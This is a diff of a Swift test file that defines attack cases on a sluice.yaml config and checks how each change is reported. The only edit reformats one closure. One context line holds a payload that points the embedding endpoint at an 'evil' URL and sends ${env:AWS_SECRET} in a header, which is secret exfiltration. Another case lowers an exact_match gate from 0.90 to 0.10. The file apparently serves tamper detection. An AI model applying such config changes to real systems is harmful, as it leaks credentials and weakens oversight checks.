@@ -58,7 +58,8 @@ import Testing
                 "unsure: ask\nembedding: { openai: \(change.evil.url), name: m, headers: { X: \"${env:AWS_SECRET}\" } }"
             )
         },
-        Attack("an encoder of its own", says: "setting changed: embedding.model (absent → \"mine\")") { change in
+        Attack("an encoder of its own", says: "setting changed: embedding.model (absent → \"mine\")") {
+            change in
             try change.edit("sluice.yaml", "unsure: ask", "unsure: ask\nembedding: { model: mine }")
         },
         Attack("a threshold lowered", says: "gate loosened: exact_match >= 0.90 → exact_match >= 0.10") {
